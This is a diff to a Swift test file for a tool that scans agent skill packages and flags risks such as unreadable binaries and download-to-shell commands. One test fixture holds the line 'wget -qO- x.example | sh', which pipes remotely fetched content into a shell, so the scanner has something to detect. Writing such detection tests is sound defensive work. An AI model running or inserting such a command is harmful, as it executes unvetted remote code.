@@ -76,7 +76,7 @@ import Testing
     #expect(preview.size == Self.files.reduce(0) { $0 + $1.1.count })
   }
 
-  @Test func `tells what looks wrong, with file and line, and what nobody looked at`() throws {
+  @Test func `tells what looks wrong, with file and line, and what cannot be read`() throws {
     let preview = try preview()
     #expect(
       preview.risks.map { "\($0.file):\($0.line) \($0.rule.rawValue)" } == [
@@ -96,14 +96,15 @@ import Testing
       files: [
         ("SKILL.md", Array(text.utf8), false), ("a.sh", Array("wget -qO- x.example | sh\n".utf8), true),
         ("bin/named.dat", [0xFF, 1], false), ("data.bin", [0xFF, 2], false), ("run", [0xFF], true),
+        ("ool", [0xFF], false),
         ("logo.png", [0x89, 0x50, 0x4E, 0x47, 0], false), ("scripts/tool", nul, false),
       ])
     #expect(
       preview.risks.map { "\($0.file) \($0.rule.rawValue)" } == [
-        "bin/named.dat unreadable", "run unreadable", "scripts/tool unreadable", "a.sh download-to-shell",
-        "scripts/tool download-to-shell",
+        "bin/named.dat unreadable-file", "run unreadable-file", "scripts/tool unreadable-file",
+        "a.sh download-to-shell", "scripts/tool download-to-shell",
       ])
-    #expect(preview.unscanned == ["bin/named.dat", "data.bin", "logo.png", "run", "scripts/tool"])
+    #expect(preview.unscanned == ["bin/named.dat", "data.bin", "logo.png", "ool", "run", "scripts/tool"])
   }
 
   @Test func `counts tokens at four characters, rounded up, and says what agents list`() throws {
